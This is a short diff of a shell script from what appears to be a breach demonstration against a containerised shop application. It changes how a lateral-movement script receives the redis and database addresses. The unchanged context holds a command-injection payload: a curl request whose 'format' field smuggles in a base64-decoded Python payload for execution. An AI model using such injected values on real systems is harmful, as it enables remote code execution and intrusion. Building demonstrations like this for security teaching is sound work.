@@ -8,8 +8,8 @@ breach_run() {
     in_internet curl -s --max-time 150 "http://$SHOP_V4/export" --data-urlencode \
         "format=%F >/dev/null; echo $payload | base64 -d | python3 -" >"$1" || true
     # The attacker knows the addresses from the scan; names would do as well.
-    docker_here run --rm -i --network shop_backend --entrypoint python3 shop/base - \
-        "$(address_of redis)" "$(address_of db)" <demo/breach/sideways.py >>"$1" || true
+    docker_here run --rm -i --network shop_backend --env "REDIS=$(address_of redis)" --env "DB=$(address_of db)" \
+        --entrypoint python3 shop/base - <demo/breach/sideways.py >>"$1" || true
 }
 
 address_of() { docker_here inspect --format '{{.NetworkSettings.Networks.shop_backend.IPAddress}}' "shop-$1-1"; }
